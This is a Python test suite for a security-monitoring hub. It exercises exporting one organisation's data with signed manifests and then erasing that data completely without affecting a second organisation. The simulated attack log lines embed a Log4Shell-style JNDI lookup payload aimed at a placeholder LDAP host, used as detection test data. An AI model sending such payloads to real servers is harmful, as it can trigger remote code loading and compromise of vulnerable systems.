#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""An organisation leaves a running hub: it takes all of its own along as files that anyone can read, then nothing of it
is left, a signed record says so, and the other organisation notices nothing."""
import base64
import contextlib
import hashlib
import json
import os
import pathlib
import secrets
import sqlite3
import subprocess

from cryptography.exceptions import InvalidSignature
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey
from harness import TIMEOUT_S, case, contains, equal, folder, main, yagura
from hub_kit import Hub, Member, append, until

RULE = """title: Strange user
id: 5a5a5a5a-0000-4000-8000-000000000001
logsource: {product: linux, service: sshd}
detection:
  sel: {message|contains: 'Invalid user'}
  condition: sel
level: high
---
title: Many strange users
id: 5a5a5a5a-0000-4000-8000-000000000002
correlation:
  type: event_count
  rules: [5a5a5a5a-0000-4000-8000-000000000001]
  group-by: [user]
  timespan: 1d
  condition: {gte: 100000}
  generate: true
level: low
"""
ZSTD = b"\x28\xb5\x2f\xfd"


def is_signed(text, context, key):
    """As docs/data-handling.md says it, with nothing of the program."""
    value = json.loads(text)
    signature = base64.b64decode(value.pop("signature"))
    message = context + json.dumps(value, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()
    try:
        Ed25519PublicKey.from_public_bytes(base64.b64decode(key)).verify(signature, message)
    except InvalidSignature:
        return False
    return value["key"] == key


def unpacked(data):
    """All that stands in zstd frames anywhere in @data."""
    found, at = b"", data.find(ZSTD)
    while at >= 0:
        found += subprocess.run(["zstd", "-dqc"], input=data[at:], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL,
                                timeout=TIMEOUT_S, check=False).stdout
        at = data.find(ZSTD, at + 4)
    return found


def where(root, mark, packed=True):
    """The files below @root that hold @mark, as it is or packed."""
    found = []
    for path in sorted(pathlib.Path(place, name) for place, _, names in os.walk(root) for name in names):
        try:
            data = path.read_bytes() if path.is_file() and not path.is_symlink() else b""
        except FileNotFoundError:
            continue
        if mark in data or (packed and mark in unpacked(data)):
            found.append(str(path.relative_to(root)))
    return found


def lines(path):
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def findings(hub, org):
    return [json.loads(line) for line in hub.admin("findings", "--json", "--org", org).out.splitlines()]


class Two:
    """A hub with two organisations that sent what only they had."""

    def __init__(self):
        self.hub = hub = Hub()
        self.marks = {org: ("mark" + secrets.token_hex(8)) for org in ("acme", "rival")}
        (hub.data / "rules" / "strange.yml").write_text(RULE)
        until("the rule", lambda: "taken over" in hub.messages())
        self.logs, self.members = {}, {}
        for org, mark in self.marks.items():
            hub.org(org)
            equal(hub.admin("person", "add", "user-" + mark, "--name", "Name " + mark, "--grant", "member:" + org).code, 0)
            equal(hub.admin("api-token", "--org", org, "--role", "member", "--name", "token-" + mark).code, 0)
            self.share(org, mark)
            self.logs[org] = folder() / "auth.log"
            self.logs[org].touch()
            self.members[org] = Member(hub, org, follow=[self.logs[org]]).start()
        equal(hub.admin("person", "add", "both@example.jp", "--name", "Both", "--grant", "member:acme", "--grant",
                        "member:rival").code, 0)
        equal(hub.admin("org", "change", "acme", "--name", "Firm " + self.marks["acme"]).code, 0)
        for org, mark in self.marks.items():
            self.send(org, 1, 40)
        for org in self.marks:
            until("archived: " + org, lambda o=org: len(hub.archived(o)) == 40)
            until("found: " + org, lambda o=org: findings(hub, o))
        until("all is judged", lambda: hub.lag() == 0)

    def share(self, org, mark):
        place = self.hub.admin("collection", "add", "--org", org, "--title", "Shelf " + mark).out.strip()
        bundle = folder() / "bundle.json"
        bundle.write_text(json.dumps({"type": "bundle", "id": "bundle--" + place, "objects": [
            {"type": "tool", "spec_version": "2.1", "id": "tool--" + place, "created": "2026-01-01T00:00:00.000Z",
             "modified": "2026-01-01T00:00:00.000Z", "name": "Thing " + mark}]}))
        done = yagura("share", "import", bundle, "--data", self.hub.data, "--collection", place)
        equal(done.code, 0, done)

    def send(self, org, first, last):
        append(self.logs[org], ["Nov 21 08:00:%02d box sshd[7]: Invalid user %s from 192.0.2.7 port %d" %
                                (n % 60, self.marks[org], n) for n in range(first, last + 1)])


def attack(hub, org, sensor, sequence, mark, address):
    """One line of an attack on a path that only @org has."""
    line = {"v": 1, "format": "access", "source": "/var/log/web-%s-%s.log" % (mark, address), "position": 1,
            "time": "2026-11-21T08:00:00Z", "has_zone": True, "time_text": "x", "raw": "x",
            "fields": {"c-ip": address, "cs-method": "GET", "cs-uri": "/%s/?x=${jndi:ldap://x/a}" % mark,
                       "sc-status": 200}}
    content = json.dumps(line, separators=(",", ":")).encode() + b"\n"
    equal(sensor.send(sensor.batch(content, sequence))[0], 200)
    until("found: " + address, lambda: any(f["actor"] == address for f in findings(hub, org)))


@case
def nothing_of_its_logs_in_situations():
    """Attacked paths tie alerts to situations: what only it had goes, also out of one that another is part of; so do words
    about what was its alone. The other's stay, and sums over all."""
    hub = Hub()
    marks = {org: ("mark" + secrets.token_hex(8)) for org in ("acme", "rival")}
    for number, (org, mark) in enumerate(marks.items()):
        hub.org(org)
        sensor = hub.stranger(org)
        attack(hub, org, sensor, 1, mark, "192.0.2.9")
        attack(hub, org, sensor, 2, mark, "198.51.100.%d" % (number + 1))

    def shown():
        return [json.loads(line) for line in hub.admin("situations", "list", "--json").out.splitlines()]

    def sums():
        day = json.loads(hub.admin("funnel", "--json").out)
        return day["alerts"] == 4 and {key: value for key, value in day.items() if key != "situations"}

    def held(mark):
        return where(hub.data, mark.encode(), packed=False)
    until("alerts of both", lambda: all("situations.db" in str(held(mark)) for mark in marks.values()))
    one = until("a situation of both", lambda: [s for s in shown() if s["organisations"] == 2])[0]
    equal(hub.admin("situations", "comment", str(one["number"]), "about both").code, 0)
    days = until("all is counted", sums)
    equal(hub.admin("org", "close", "acme").code, 0)
    done = hub.admin("org", "erase", "acme", "--yes", "--json")
    equal(done.code, 0, done)
    equal(held(marks["acme"]), [])
    assert held(marks["rival"]) and held("about both")
    with contextlib.closing(sqlite3.connect("file:%s?mode=ro" % (hub.data / "situations.db"), uri=True)) as db:
        names = [row[0] for row in db.execute("SELECT text FROM names")]
        assert "acme" not in names and "rival" in names, names
        equal(db.execute("SELECT count(*) FROM spans WHERE value='198.51.100.1'").fetchall(), [(0,)])
        assert db.execute("SELECT count(*) FROM spans WHERE value='192.0.2.9'").fetchone()[0] > 0
    equal(sums(), days, "sums over all stay")
    # What comes later is tied as before.
    equal(hub.stop(), 0)
    hub.start()
    sensor = hub.stranger("rival")
    attack(hub, "rival", sensor, 1, marks["rival"], "192.0.2.9")
    equal(hub.admin("org", "erase", "acme", "--yes").code, 0)
    # What was its alone, with what people said of it.
    equal(hub.admin("situations", "comment", str(shown()[0]["number"]), "about rival").code, 0)
    equal(hub.admin("org", "close", "rival").code, 0)
    equal(hub.admin("org", "erase", "rival", "--yes").code, 0)
    equal(held(marks["rival"]) + held("about rival"), [])
    hub.stop()


@case
def all_of_it_leaves_and_nothing_stays():
    two = Two()
    hub, mark = two.hub, two.marks["acme"].encode()
    before = {org: sorted(json.dumps(r, sort_keys=True) for r in hub.archived(org)) for org in two.marks}
    key = (hub.data / "ca" / "audit.pub").read_text().strip()

    # A hunt looked at both.
    def hunts():
        return [json.loads(line) for line in hub.admin("hunt", "list", "--json").out.splitlines()]
    (hub.data / "indicators" / "list.txt").write_text("192.0.2.7\n")
    hunted = until("the hunt", lambda: [h for h in hunts() if h["indicators"] == 1 and h["state"] == "done"])[0]
    assert set(hunted["orgs"]) == {"acme", "rival"} and hunted["orgs"]["acme"]["findings"] == 40, hunted

    # All of its own, readable.
    to = folder() / "export"
    done = hub.admin("export", "--org", "acme", "--to", to, "--json")
    equal(done.code, 0, done)
    said = json.loads(done.out)
    manifest_text = (to / "manifest.json").read_text(encoding="utf-8")
    manifest = json.loads(manifest_text)
    assert is_signed(manifest_text, b"yagura-export-1:", key), manifest
    assert not is_signed(manifest_text.replace('"size":', '"size":1'), b"yagura-export-1:", key)
    equal((manifest["what"], manifest["organisation"]), ("exported", "acme"))
    names = {str(p.relative_to(to)) for p in to.glob("**/*") if p.is_file()}
    equal({f["name"] for f in manifest["files"]}, names - {"manifest.json"})
    equal(said["files"], len(manifest["files"]))
    for file in manifest["files"]:
        data = (to / file["name"]).read_bytes()
        equal((len(data), hashlib.sha256(data).hexdigest()), (file["size"], file["sha256"]))
    got = []
    for path in sorted(to.glob("archive/**/*.ndjson.zst")):
        text = subprocess.run(["zstd", "-dqc", path], stdout=subprocess.PIPE, check=True, timeout=TIMEOUT_S).stdout
        got += [json.dumps(json.loads(line), sort_keys=True) for line in text.splitlines()]
    equal(sorted(got), before["acme"])
    assert [f["id"] for f in lines(to / "findings.ndjson")] == [f["id"] for f in findings(hub, "acme")] != []
    people = lines(to / "people.ndjson")
    equal(sorted(p["login"] for p in people), ["both@example.jp", "user-" + mark.decode()])
    equal([s["id"] for s in lines(to / "sensors.ndjson")], [two.members["acme"].id])
    equal([t["name"] for t in lines(to / "tokens.ndjson")], ["token-" + mark.decode()])
    equal(sum(b["records"] for b in lines(to / "batches.ndjson")), 40)
    equal([(h["id"], [(o["org"], o["findings"]) for o in h["orgs"]]) for h in lines(to / "hunts.ndjson")
           if h["id"] == hunted["id"]], [(hunted["id"], [("acme", 40)])])
    equal([(one["title"], one["object"]["name"]) for one in lines(to / "stix.ndjson")],
          [("Shelf " + mark.decode(), "Thing " + mark.decode())])
    equal(where(to, b'"rival"', packed=False), [])
    equal(lines(to / "heartbeats.ndjson")[0]["organisation"], "acme")
    equal(where(to, two.marks["rival"].encode()), [])
    text = b"".join(p.read_bytes() for p in to.glob("*.ndjson"))
    for secret in (b'"password"', b'"link"', b'"secret"', b"argon2"):
        assert secret not in text, secret
    done = hub.admin("export", "--org", "acme", "--to", to)
    equal(done.code, 1, done)
    equal(hub.admin("export", "--org", "none", "--to", folder() / "none").code, 1)

    # Not before it is closed, and not by mistake.
    done = hub.admin("org", "erase", "acme", "--yes")
    equal(done.code, 1, done)
    contains(done.err, "org close")
    equal(hub.admin("org", "close", "acme").code, 0)
    done = hub.admin("org", "erase", "acme")
    equal(done.code, 1, done)
    contains(done.err, "--yes")
    equal(len(hub.archived("acme")), 40)
    equal(hub.admin("org", "erase", "none", "--yes").code, 1)

    # All of it, beside the hub and a sensor of another that goes on.
    assert where(hub.data, mark), "the marker must be there to be missed later"
    two.send("rival", 41, 80)
    file = folder() / "record.json"
    done = hub.admin("org", "erase", "acme", "--yes", "--record", file, "--json")
    equal(done.code, 0, done)
    record = json.loads(done.out)
    equal(file.read_text(encoding="utf-8"), done.out)
    assert is_signed(done.out, b"yagura-erased-1:", key), record
    assert not is_signed(done.out.replace('"records":40', '"records":41'), b"yagura-erased-1:", key)
    equal(record["deleted"]["archive"]["records"], 40)
    equal(record["deleted"]["register"]["people"], 1)
    assert record["deleted"]["findings"] >= 1 and record["deleted"]["heartbeats"] == 1, record
    assert record["deleted"]["batches"] >= 1 and record["organisation"] == "acme", record
    assert record["deleted"]["hunts"] >= 1, record
    equal(record["deleted"]["collections"], 1)
    equal(where(hub.data, b"Thing " + mark) + where(hub.data, b"Shelf " + mark), [])
    assert where(hub.data, b"Thing " + two.marks["rival"].encode())
    equal([list(h["orgs"]) for h in hunts() if h["id"] == hunted["id"]], [["rival"]])
    equal(where(hub.data / "hunts", b"acme"), [])
    with contextlib.closing(sqlite3.connect("file:%s?mode=ro" % (hub.data / "facts.db"), uri=True)) as db:
        names = [row[0] for row in db.execute("SELECT text FROM names")]
        assert not {"acme", two.members["acme"].id, str(two.logs["acme"])} & set(names), names
        assert {"rival", two.members["rival"].id, str(two.logs["rival"])} <= set(names), names
        equal(db.execute("SELECT count(DISTINCT org) FROM days").fetchall(), [(2,)])  # of rival, and of all
        equal(db.execute("SELECT count(*) FROM consumers WHERE instr(CAST(state AS TEXT), 'acme')").fetchall(), [(0,)])
    assert record["complete"], record
    equal(where(hub.data / "journal", mark), [])
    assert not (hub.data / "journal" / "rotate").exists()
    assert not (hub.data / "archive" / "acme").exists()
    equal(findings(hub, "acme"), [])
    entries = [json.loads(line) for line in hub.admin("audit", "list", "--json").out.splitlines()]
    equal([e["detail"] for e in entries if e["action"] == "org.erase"], [done.out.rstrip("\n")])
    equal(hub.admin("audit", "verify").code, 0)

    # Again, after a start of the hub: nothing is left to do.
    equal(two.members["acme"].stop() in (0, 2), True)
    equal(hub.stop(), 0)
    hub.start()
    two.send("rival", 81, 90)
    until("rival's lines", lambda: len(hub.archived("rival")) == 90)
    done = hub.admin("org", "erase", "acme", "--yes", "--json")
    equal(done.code, 0, done)
    assert json.loads(done.out)["complete"] and is_signed(done.out, b"yagura-erased-1:", key), done
    # Its person's login stands in the audit log, which stays: what was sent does not.
    left = [name for name in where(hub.data, mark) if not name.startswith("hub.db")]
    equal(left, [])
    sent = b"Invalid user " + mark
    equal(where(hub.data, sent), [])
    equal(where(hub.data, b"token-" + mark) + where(hub.data, b"Name " + mark), [])
    with contextlib.closing(sqlite3.connect("file:%s?mode=ro" % (hub.data / "hub.db"), uri=True)) as db:
        rows = db.execute("SELECT DISTINCT org FROM docs WHERE instr(key || actor || CAST(body AS TEXT), ?)", (mark.decode(),))
        equal(rows.fetchall(), [("hub.audit",)])

    # The other one noticed nothing.
    have = {json.dumps(r, sort_keys=True) for r in hub.archived("rival")}
    assert set(before["rival"]) <= have and len(have) == 90
    assert findings(hub, "rival")
    people = [json.loads(line) for line in hub.admin("person", "list", "--json").out.splitlines()]
    equal(sorted((p["login"], tuple(p["grants"])) for p in people),
          [("both@example.jp", ("member:rival",)), ("user-" + two.marks["rival"], ("member:rival",))])
    code, notes = hub.verify()
    equal(code, 0, notes)
    equal(hub.admin("audit", "verify").code, 0)
    shown = [json.loads(line) for line in hub.admin("org", "list", "--json").out.splitlines()]
    equal([(o["organisation"], o["name"], bool(o["closed"]), o["erased"]) for o in shown],
          [("acme", "acme", True, True), ("rival", "rival", False, False)])
    equal(hub.admin("org", "add", "acme").code, 1)  # the name is not given again
    equal(two.members["rival"].stop(), 0)
    equal(hub.stop(), 0)


@case
def one_that_never_sent_anything():
    data = folder() / "hub"
    data.mkdir()
    equal(yagura("admin", "--data", data, "org", "add", "acme").code, 0)
    equal(yagura("admin", "--data", data, "org", "close", "acme").code, 0)
    done = yagura("admin", "--data", data, "org", "erase", "acme", "--yes", "--json")
    equal(done.code, 0, done)  # an organisation that never sent anything
    equal(json.loads(done.out)["deleted"]["archive"], {"bytes": 0, "files": 0, "newest": None, "oldest": None, "records": 0})


if __name__ == "__main__":
    main()
